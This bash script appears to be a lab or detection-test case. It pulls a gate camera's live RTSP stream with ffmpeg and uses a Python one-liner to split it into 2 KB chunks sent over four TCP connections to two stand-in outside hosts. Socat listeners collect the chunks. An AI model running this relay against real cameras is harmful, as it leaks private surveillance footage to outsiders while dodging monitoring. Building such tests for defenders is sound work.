#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay half=report tool=ffmpeg,python3 camera=10.20.0.11 far=out ready=out:9134 seconds=50 parts=dns,camera-gate,recorder-gate,nas,outside-web
# Python deals out what ffmpeg gives it of gate, two kilobytes at a time, to four connections to two hosts outside: each of them has a quarter.
if [ "$1" = out ]; then for n in 1 2 3 4; do where=203.0.113.66; [ "$n" -lt 3 ] || where=198.51.100.66; timeout 70 socat -u TCP-LISTEN:913$n,bind=$where,reuseaddr "CREATE:$LAB/got$n" & done; wait; exit 0; fi
timeout 54 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 46 -c copy -f mpegts pipe:1 | timeout 56 python3 -c 'import socket, sys
ways = [socket.create_connection(("203.0.113.66" if n < 3 else "198.51.100.66", 9130 + n)) for n in (1, 2, 3, 4)]; n = 0
while d := sys.stdin.buffer.read1(2000): n += 1; ways[n % 4].sendall(d)'
sleep 1; [ "$(cat "$LAB"/got[1-4] | wc -c)" -gt 700000 ]
